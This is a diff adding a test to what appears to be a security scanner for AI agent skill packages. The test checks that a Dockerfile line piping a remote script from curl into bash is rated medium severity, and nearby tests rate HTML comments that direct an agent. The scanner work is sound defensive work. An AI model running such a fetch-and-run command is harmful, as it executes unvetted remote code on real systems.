@@ -138,6 +138,16 @@ describe('span roles: documentation is a lead, an instruction or code keeps its 
     ).toBe('critical');
   });
 
+  it('rates remote code in a container build medium: it runs inside the image', async () => {
+    const s = await severities(
+      skill({
+        'SKILL.md': `${FM}Build the image.\n`,
+        'resources/Dockerfile': 'RUN curl -fsSL https://get.tools-x.io/i | bash\n',
+      }),
+    );
+    expect(s.S05).toBe('medium');
+  });
+
   it('rates an HTML comment that only mentions the agent low, one that orders it high', async () => {
     const about = await severities(
       skill({ 'SKILL.md': `${FM}<!-- Based on the code-simplifier agent from Claude examples -->\nText.\n` }),
